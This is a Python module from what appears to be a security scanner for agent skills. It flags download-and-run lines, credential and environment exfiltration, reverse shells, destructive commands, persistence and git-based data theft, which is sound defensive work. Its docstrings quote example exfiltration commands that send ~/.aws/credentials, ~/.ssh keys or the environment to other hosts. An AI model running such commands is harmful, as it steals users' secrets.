"""Line rules: what one (normalised, resolved) line of a command or document does.

`check_line` runs every command rule on one view of a line (download and run, exfiltration,
reverse shells, destruction, persistence, writing outside the skill's folder) and reports
through a `Collector`. The scanner calls it once per view (as written, variables resolved,
escapes decoded), so a finding names the decoded text that triggered it.
"""

from __future__ import annotations

import re

from skills.guard import patterns as P
from skills.guard.collect import Collector
from skills.guard.model import Severity


def _stages(line: str) -> list[str]:
    return [s for s in re.split(r"(?<!\|)\|(?!\|)", line)]


def not_collecting(text: str) -> str:
    """`text` with the places that name a secret only to exclude it or test for it blanked (same length,
    so positions still line up): excluding, ignoring or testing for `.env` is not collecting it."""
    if "-" not in text and "ignore" not in text.lower() and "(" not in text and "[" not in text:
        return text
    text = P.NOT_COLLECTING.sub(lambda m: " " * len(m.group(0)), text)
    for match in P.ZIP_EXCLUDE.finditer(text):
        text = text[:match.start("x")] + " " * (match.end("x") - match.start("x")) + text[match.end("x"):]
    return text


def _secret(text: str) -> re.Match[str] | None:
    if not P.SECRET_REF.search(text):
        return None
    text = not_collecting(text)
    for match in P.SECRET_REF.finditer(text):
        if not P.IDENTITY_ARG.search(text[:match.start()]):
            return match
    return None


VENDOR_FILTER = re.compile(
    r"\b(grep|rg|egrep|fgrep)\s+(-[\w-]+\s+){0,4}['\"]?\^?(?P<g>[A-Za-z][A-Za-z0-9]+)[\w=*.^$]*['\"]?\s+[^|;&\n]{0,80}\.env\b"
    r"|\bsed\s+-n\s+['\"]?s/\^?(?P<s>[A-Za-z][A-Za-z0-9]+)[^|;&\n]{0,80}\.env\b"
    r"|\bawk\b[^|;&\n]{0,40}/\^?(?P<a>[A-Za-z][A-Za-z0-9]+)[^|;&\n]{0,80}\.env\b"
    r"|\bdotenv\s+(-f\s+\S+\s+)?get\s+(?P<d>[A-Za-z][A-Za-z0-9]+)", re.IGNORECASE)


def env_vendor(text: str) -> str | None:
    """The vendor a read of `.env` is filtered to (`grep -i vercel .env`, `grep ^STRIPE_KEY= .env`): that
    vendor's entry, not the whole file; None when the read is not filtered to a vendor's name."""
    match = VENDOR_FILTER.search(text)
    if not match:
        return None
    word = next(g for g in match.group("g", "s", "a", "d") if g).split("_")[0].upper()
    return None if word in P.GENERIC_VENDORS or len(word) < 3 else word.lower()


def vendor_host(host: str, vendor: str) -> bool:
    """`host` is the vendor's own domain or a name under it (api.acme.com, acme.io), not one that only
    contains the name (api.acme.com.evil.example, acme-login.net)."""
    host = host.rsplit("@", 1)[-1].split(":")[0].rstrip(".")
    return bool(re.search(rf"(^|\.){re.escape(vendor)}\.([a-z]{{2,24}}|co\.[a-z]{{2}}|com\.[a-z]{{2}})$", host))


def to_vendor(text: str, vendor: str) -> bool:
    """Every address this command sends to is the vendor's own host (api.vercel.com for vercel), or the
    command is the vendor's CLI: a vendor's token used with the vendor's own tool."""
    hosts = [h.lower() for h in re.findall(r"https?://([^/\s'\"?#]+)", text)]
    if hosts:
        return all(vendor_host(h, vendor) for h in hosts)
    return bool(re.match(rf"\s*(\w+=\S*\s+)*{re.escape(vendor)}(-cli)?\b", text, re.IGNORECASE))


FILLED_VAR = re.compile(r"\bfor\s+(\w+)\s+in\s+[\"']?\$\(([^()]{0,600})\)|\b(\w+)=[\"']?\$\(([^()]{0,600})\)")


def shell_exfiltration(line: str, depth: int = 0) -> str | None:
    """Why this command line sends secrets or the environment over the network, or None: also inside
    `sh -c '...'` (run in a container or over ssh), through a variable the same line fills from a
    credential file (`for l in $(cat ~/.aws/credentials); do dig $l.host; done`), and by uploading the
    file itself (`gh gist create ~/.ssh/id_rsa`, `aws s3 cp ~/.aws/credentials s3://...`, `rsync ~/.ssh/ host:`)."""
    if depth < 2 and re.search(r"\b(ba|z|k|da)?sh\s+(-\w+\s+)*-c\s", line):
        for quoted in re.findall(r"\b(?:ba|z|k|da)?sh\s+(?:-\w+\s+)*-c\s+(?:'([^']{1,2000})'|\"([^\"]{1,2000})\")", line):
            why = shell_exfiltration(quoted[0] or quoted[1], depth + 1)
            if why:
                return why
    for match in FILLED_VAR.finditer(line):
        var, body = match.group(1) or match.group(3), match.group(2) or match.group(4)
        if P.READERS.search(body) and _secret(body) or re.match(r"\s*(env|printenv)\b", body):
            vendor = env_vendor(body)
            if any(P.SENDERS.search(c) and re.search(rf"\$\{{?{var}\b", c) and not (vendor and to_vendor(c, vendor))
                   for c in re.split(r";|&&|\|\|", line[match.end():])):
                return f"fills ${var} from credential files or the environment and sends it over the network"
    for command in re.split(r";|&&|\|\|", line):
        upload = P.UPLOADERS.search(command)
        if upload:
            after = command[upload.start():]
            secret = _secret(after)
            if secret and (upload.group(0).startswith("gh") or re.search(r"\s['\"]?(\w+://|[\w.@-]+:)\S*", after[secret.end():])):
                return "uploads a credential file to another machine or service"
        for inner in re.findall(r"\$\(([^()]{0,600})\)|`([^`]{0,600})`", command):
            body = inner[0] or inner[1]
            outer = command.replace(body, " ")
            gathers = (P.READERS.search(body) or re.search(r"^\s*<", body)) and _secret(body) \
                or re.match(r"\s*(env|printenv|set|export\s+-p)\b", body)
            vendor = env_vendor(body) if gathers else None
            if gathers and P.SENDERS.search(outer) and not (vendor and to_vendor(outer, vendor)):
                return "puts credential files or the environment into a network request"
        stages = _stages(command)
        for index, stage in enumerate(stages):
            sender = P.SENDERS.search(stage)
            if not sender:
                continue
            earlier = stages[:index]
            if any((P.READERS.search(s) and _secret(s) and not ((v := env_vendor(s)) and to_vendor(stage, v)))
                   or P.ENV_READERS.search(s) for s in earlier):
                return "pipes credential files or the environment into a network command"
            if re.search(r"\$\(\s*(env|printenv|set|cat\s[^)]{0,600})\)|`(env|printenv)`", stage) and \
                    (re.search(r"\$\(\s*(env|printenv|set)\s*\)|`(env|printenv)`", stage) or _secret(stage)):
                return "puts credential files or the environment into a network request"
            after = stage[sender.start():]
            secret = _secret(after)
            if secret and (re.search(r"@['\"]?\S*$|<\s*['\"]?\S*$", after[:secret.start()])
                           or P.SEND_ARG.search(after[:secret.start()] + " ")
                           or re.match(r"\s*(scp|rsync)\b", after) and re.search(r"\s\S+:\S*", after[secret.end():])):
                return "sends a credential file over the network"
        if re.search(r">\s*/dev/(tcp|udp)/", command) and (_secret(command) or P.ENV_READERS.search(command.split(">")[0])):
            return "writes credential files or the environment to a network socket"
    return None


def _secret_data(view: str) -> tuple[Severity, str]:
    """A secret variable sent as request data: to its own vendor's host it is an API call (`$SLACK_TOKEN`
    to slack.com), to anyone else it is exfiltration; a generic name (`$API_TOKEN`) is left to review."""
    hosts = " ".join(re.findall(r"https?://([^/\s'\"]+)", view)).lower()
    for match in P.SECRET_HEADER_VAR.finditer(view):
        vendor = match.group(1)
        if vendor in P.GENERIC_VENDORS:
            continue
        if hosts and vendor.lower() not in hosts:
            return "dangerous", f"sends ${match.group(0).strip('${}')} to a host that is not {vendor.lower()}'s"
        return "caution", "sends a secret variable as request data to its own service"
    return "caution", "sends a secret variable as request data; check where it goes"


DOWNLOAD_KEYS = ("|", "(", "&&", ";", "-encodedcommand", "powershell", "child_process", "decode_base64", "decode64", "unpack",
                 "pip")
"""Every download-and-run pattern needs one of these (a pipe, a call or substitution, a command chain...)."""


def may_download(view: str) -> bool:
    """False when no download-and-run pattern can match the line (none of `DOWNLOAD_KEYS` is in it)."""
    low = view.lower()
    return any(key in low for key in DOWNLOAD_KEYS)


def official_installer(view: str) -> str | None:
    """The vendor host when the line runs a vendor's own published install script (`curl|wget <installer> |
    sh`, `sh -c "$(curl ...)"`, `iex (...DownloadString(...))`): every URL on it a published installer (a
    vendor's install script, a repository setup script, a project's own installer among its GitHub release
    assets), the download piped straight into the shell with nothing decoded on the way, and any command
    chained after it (`&& \\` on the next line) one that downloads and runs nothing of its own."""
    urls = re.findall(r"https?://[^\s'\"`)|]+", view)
    if not urls or not all(P.OFFICIAL_INSTALLERS.match(u) or project_release_installer(u) for u in urls):
        return None
    for statement in re.split(r"&&|\|\||;", view):
        if re.search(r"https?://", statement):
            if re.search(r"\b(base64|xxd|openssl|eval)\b", statement) or len(_stages(statement)) > 3:
                return None
        elif may_download(statement) and any(pattern.search(statement) for pattern in P.DOWNLOAD_EXEC):
            return None
    host = urls[0].split("/")[2]
    return host if host != "github.com" else "/".join(urls[0].split("/")[2:5])


def project_release_installer(url: str) -> bool:
    """`https://github.com/<owner>/<project>/releases/(latest/)download/<tag>/<project>[-installer].sh`: the
    project's own install script published among its release assets (the asset is named after the project)."""
    match = P.GITHUB_RELEASE_ASSET.match(url)
    if not match:
        return False
    project = re.sub(r"[-_.]", "", match.group("project").lower())
    asset = re.sub(r"[-_.]", "", match.group("asset").lower())
    return len(project) >= 3 and asset.startswith(project)


def check_line(c: Collector, number: int, view: str, raw: str, *, script: bool, mktemp: set[str]) -> None:
    """Every command rule on one view of a line."""
    for pattern in P.DOWNLOAD_EXEC if may_download(view) else ():
        if pattern.search(view):
            vendor = official_installer(view)
            if vendor:
                c.add(number, "download-exec", "caution", f"pipes {vendor}'s published install script into a shell "
                      "(the vendor's documented install; check it)", view, raw)
            else:
                c.add(number, "download-exec", "dangerous", "downloads or decodes code and runs it", view, raw)
            break
    else:
        if P.DOWNLOAD_CHMOD.search(view):
            c.add(number, "download-exec", "caution", "downloads a file and makes it executable", view, raw)

    why = shell_exfiltration(view)
    if why:
        c.add(number, "exfiltration", "dangerous", why, view, raw)
    elif P.NETWORK.search(view) and P.DATA_WITH_SECRET.search(view):
        severity, message = _secret_data(view)
        c.add(number, "exfiltration", severity, message, view, raw)
    elif P.NETWORK.search(view) and P.ENV_DUMP.search(view) and not re.search(
            r"env\s*=\s*(dict\()?os\.environ|os\.environ\.copy\(\)|\benv\s+-i\b|\benv\s+\w+=", view):
        c.add(number, "exfiltration", "dangerous", "sends the environment over the network", view, raw)
    if P.PASSWORD_PHISHING.search(view):
        c.add(number, "exfiltration", "dangerous", "asks for the user's password in a fake system dialog", view, raw)

    for pattern in P.REVERSE_SHELL:
        if pattern.search(view):
            c.add(number, "reverse-shell", "dangerous", "hands a shell to a remote machine", view, raw)
            break

    _destructive(c, number, view, raw, mktemp)
    persistence(c, number, view, raw, script)
    if script:
        outside(c, number, view, raw)


def _destructive(c: Collector, number: int, view: str, raw: str, mktemp: set[str]) -> None:
    for pattern in P.DESTRUCTIVE:
        if pattern.search(view):
            c.add(number, "destructive", "dangerous", "destroys data or the system", view, raw)
            return
    for pattern in P.CAUTION_DESTRUCTIVE:
        match = pattern.search(view)
        if not match:
            continue
        variables = re.findall(r"\$\{?(\w+)\}?", match.group(0))
        if variables and all(v in mktemp for v in variables):
            return  # removing a folder the same script created with mktemp
        c.add(number, "destructive", "caution", "deletes or overwrites data; check the target", view, raw)
        return


def persistence(c: Collector, number: int, line: str, raw: str, script: bool) -> None:
    payload_bad = bool(P.PAYLOAD_RED_FLAGS.search(line))
    installs_cron = bool(P.CRON_INSTALL.search(line))
    if P.AUTHORIZED_KEYS.search(line) and re.search(r">>|>|\btee\b|\bcp\b|\bopen\(|write|echo|cat\b", line) \
            and not re.search(r"\bchmod\b|\bssh-copy-id\b", line):
        c.add(number, "persistence", "dangerous", "adds an ssh key to authorized_keys (remote access)", line, raw)
    if P.REBOOT.search(line):
        severity: Severity = "dangerous" if installs_cron and payload_bad else "caution"
        c.add(number, "persistence", severity, "a job that runs at every boot", line, raw)
    if installs_cron:
        c.add(number, "persistence", "dangerous" if payload_bad else "caution", "installs a cron job non-interactively",
              line, raw)
    if P.RC_WRITE.search(line):
        c.add(number, "persistence", "dangerous" if payload_bad else "caution", "changes a shell start-up file", line, raw)
    for pattern in P.PERSISTENCE_DANGEROUS:
        if pattern.search(line):
            c.add(number, "persistence", "dangerous", "installs itself to run at login or boot", line, raw)
            break
    for pattern in P.PERSISTENCE_CAUTION:
        if pattern.search(line):
            c.add(number, "persistence", "dangerous" if payload_bad and script else "caution",
                  "installs a service, agent or hook that runs later", line, raw)
            break


def outside(c: Collector, number: int, line: str, raw: str) -> None:
    line = re.sub(r"(\s-i|--identity|IdentityFile=)\s*['\"]?[~$][^\s'\"]{0,600}", " ", line)  # an ssh identity is used, not read
    stripped = line.strip()
    if stripped.startswith(("#", "//")) and not stripped.startswith("#!"):
        return
    for match in P.SHELL_WRITE.finditer(line):
        target = match.group(1)
        severity: Severity = "dangerous" if (P.SENSITIVE_TARGET.search(target) or "../.." in target) else "caution"
        c.add(number, "outside-folder", severity, f"writes outside the skill's folder ({target})", line, raw)
    py = P.PY_WRITE.search(line)
    if py:
        target = py.group(1) or py.group(0)
        severity = "dangerous" if P.SENSITIVE_TARGET.search(target.lstrip("(")) or "/etc" in target \
            or "Path.home" in target or "expanduser" in target else "caution"
        c.add(number, "outside-folder", severity, "writes outside the skill's folder", line, raw)
    secret = _secret(line)
    if secret and secret.group(0) == ".env":
        secret = None  # the project's own .env is not outside the folder (sending it is judged elsewhere)
    if secret and (P.SECRET_FILE_READ.search(line) or P.CREDENTIAL_ACCESS.search(line)):
        c.add(number, "outside-folder", "dangerous", "reads credential files outside the skill's folder", line, raw)
    elif P.OUTSIDE_READ.search(line):
        c.add(number, "outside-folder", "caution", "reaches outside the skill's folder", line, raw)


def script_exfiltration(c: Collector, lines: list[tuple[int, str]]) -> None:
    """Scripts in other languages (JavaScript, Ruby, PowerShell...): the environment or a credential
    file read in one place and the network used in another."""
    senders = [n for n, line in lines if P.NETWORK.search(line)]
    if not senders:
        return
    for number, line in lines:
        if P.ENV_DUMP.search(line) or (_secret(line) and P.CREDENTIAL_ACCESS.search(line)):
            c.add(number, "exfiltration", "dangerous",
                  f"reads the environment or credential files here and uses the network at line {senders[0]}", line)


def block_exfiltration(c: Collector, lines: list[tuple[int, list[str]]], window: int | None) -> None:
    """Secrets gathered on one line and sent on another (`cp -r ~/.ssh repo && ... git push`,
    `env > f` then `curl -F f=@f`). `window`: how many lines apart still count (None: the file)."""
    senders = [n for n, views in lines if any(P.REMOTE_SENDERS.search(v) for v in views)]
    if not senders:
        return
    sender_views = {n: [v for v in views if P.REMOTE_SENDERS.search(v)] for n, views in lines if n in senders}
    for number, views in lines:
        for view in views:
            gathered = None
            secret = _secret(view)
            if secret and secret.group(0) == ".env" and re.search(r"\b(cp|mv|ln|touch)\b[^;&|]{0,200}\s['\"]?\.env['\"]?\s*($|[;&|])"
                                                                  r"|--env-file|\b(source|\.)\s+\S*\.env\b", view):
                secret = None  # creating or loading the project's .env, not collecting it
            if secret and (P.PUSH_SECRETS.search(view[:secret.start()]) or P.READERS.search(view)
                           or re.search(r"\b(open|read_text|read_bytes|readFile\w*)\b", view)):
                gathered = "collects credential files"
            elif re.search(r"(^|[;&|]\s*)(env|printenv|set|export\s+-p)\s*(>|\|\s*(base64|gzip|tee|xxd))", view) \
                    or re.search(r"\w+=\$\(\s*(env|printenv)\s*[|)]", view):
                gathered = "saves the whole environment"
            if not gathered:
                continue
            near = [s for s in senders if s != number and (window is None or abs(s - number) <= window)]
            vendor = env_vendor(view) if gathered == "collects credential files" else None
            if vendor:  # one vendor's entry of .env, used with that vendor's own tool or host, is not exfiltration
                near = [s for s in near if not all(to_vendor(v, vendor) for v in sender_views[s])]
            if near:
                c.add(number, "exfiltration", "dangerous", f"{gathered} here and sends data out at line {near[0]}", view)
                break


def git_host(url: str) -> str | None:
    """The host of a git URL (`https://u:p@host/x`, `ssh://git@host:22/x`, `git@host:x.git`); None for a
    remote's name, a local path or a placeholder (`<your-remote>`, `$REMOTE_URL`)."""
    url = url.strip("\"'")
    if re.search(r"[<>{}$]", url.split("@")[-1].split("/")[0].split(":")[0]):
        return None
    match = re.match(r"^[a-z][\w+.-]*://(?:[^@/]*@)?(\[[^\]]+\]|[^/:?#]+)", url, re.IGNORECASE) \
        or re.match(r"^(?:[\w.-]+@)?([\w-]+(?:\.[\w-]+)+|\d{1,3}(?:\.\d{1,3}){3}):(?!//)", url)
    return match.group(1).lower().strip("[]") if match else None


def _outside_host(host: str | None) -> bool:
    return bool(host) and not P.FORGES.search(host or "") and host not in ("localhost", "127.0.0.1", "::1")


def _ip_host(host: str | None) -> bool:
    return bool(host) and bool(re.fullmatch(r"\d{1,3}(\.\d{1,3}){3}|[0-9a-f:]+:[0-9a-f:]*", host or ""))


def _url_secret(url: str) -> str | None:
    """Why a git URL carries a secret to a host that is not the secret's own (None when it does not)."""
    userinfo = re.match(r"^[a-z][\w+.-]*://([^@/]*)@", url.strip("\"'"), re.IGNORECASE)
    if not userinfo:
        return None
    secret = re.search(P.SECRET_VAR, userinfo.group(1)) or re.search(r"\b(ghp|gho|ghs|github_pat|glpat)_\w+", userinfo.group(1))
    if not secret:
        return None
    host = git_host(url) or ""
    name = re.sub(r"[^A-Z0-9_]", "", secret.group(0).upper())
    vendor = next((h for v, h in P.TOKEN_HOSTS.items() if name.startswith(v + "_") or name == v), None)
    if name.startswith(("GHP", "GHO", "GHS", "GITHUB_PAT")):
        vendor = "github.com"
    elif name.startswith("GLPAT"):
        vendor = "gitlab.com"
    if vendor and (host == vendor or host.endswith("." + vendor)):
        return None
    if not vendor and not _outside_host(host):
        return None
    return f"puts {secret.group(0)} into a git URL for {host or 'another host'}"


def git_exfiltration(c: Collector, lines: list[tuple[int, list[str]]], script: bool) -> None:
    """Git used to carry code or keys away: an ssh command for git that sends data elsewhere
    (GIT_SSH_COMMAND / core.sshCommand with nc, curl, ProxyCommand or a key read), a token put into a
    git URL for a host that is not the token's, pushes rewritten to another host (url.X.insteadOf), and
    a push to a remote this skill pointed at a host of its own choosing with the user's ssh key (an
    explicit `-i ~/.ssh/...`, host checking off), by IP address, with --mirror/--all, or by redirecting an
    existing remote. Publishing to a public forge (github.com, gitlab.com...) is not judged here."""
    remotes: dict[str, tuple[str, bool]] = {}
    """remote name -> (URL, True when this skill redirected an existing remote: set-url, pushurl)"""
    keyed_everywhere = False
    for number, views in lines:
        view = max(views, key=len) if len(views) > 1 else views[0]
        if "git" not in view and "GIT" not in view:
            continue
        for match in P.GIT_SSH_VALUE.finditer(view):
            value = (match.group("v") or match.group("c") or "").strip("\"'")
            if P.SSH_CMD_LEAK.search(value):
                c.add(number, "exfiltration", "dangerous", "git's ssh command sends data or keys to another host", view)
            elif match.group("var") == "GIT_SSH" and not re.search(r"(^|/)ssh$", value):
                c.add(number, "exfiltration", "caution", "git runs another program in place of ssh; check it", view)
            if P.KEY_CUES.search(value) and (re.match(r"\s*(export\s|git\s+config\b)", view)
                                              or re.search(r"\bgit\s+config\b", view)):
                keyed_everywhere = True
        for match in P.GIT_REMOTE_SET.finditer(view):
            name = match.group("name") or match.group("cname")
            url = match.group("url") or match.group("curl")
            redirected = match.group("op") == "set-url" or match.group("key") == "pushurl" or "--push" in (match.group("opts") or "")
            remotes[name] = (url, redirected)
            why = _url_secret(url)
            if why:
                c.add(number, "exfiltration", "dangerous", why, view)
        for match in P.GIT_INSTEAD_OF.finditer(view):
            to, frm = git_host(match.group("to")), git_host(match.group("from"))
            if _outside_host(to) and to != frm:
                c.add(number, "exfiltration", "dangerous",
                      f"rewrites git {'pushes' if match.group('push') else 'remotes'} for {frm or match.group('from')} "
                      f"to {to}", view)
        for match in P.GIT_PUSH.finditer(view):
            args = match.group("args")
            words = [w for w in re.findall(r"\"[^\"]*\"|'[^']*'|\S+", args) if not w.startswith("-")]
            target = words[0].strip("\"'") if words else "origin"
            url, redirected = remotes.get(target, (target, False))
            why = _url_secret(url)
            if why:
                c.add(number, "exfiltration", "dangerous", why, view)
                continue
            host = git_host(url)
            if not _outside_host(host):
                continue
            keyed = keyed_everywhere or bool(P.KEY_CUES.search(view))
            everything = bool(re.search(r"\s--(mirror|all)\b", args))
            if _ip_host(host) or keyed or everything or redirected:
                how = "with the user's ssh key" if keyed else "to an IP address" if _ip_host(host) \
                    else "every branch (--mirror/--all)" if everything else "after pointing a remote there"
                c.add(number, "exfiltration", "dangerous", f"pushes the repository to {host} {how}", view)
            elif script and target in remotes:
                c.add(number, "exfiltration", "caution", f"pushes to {host}, a host this skill chose; check it", view)
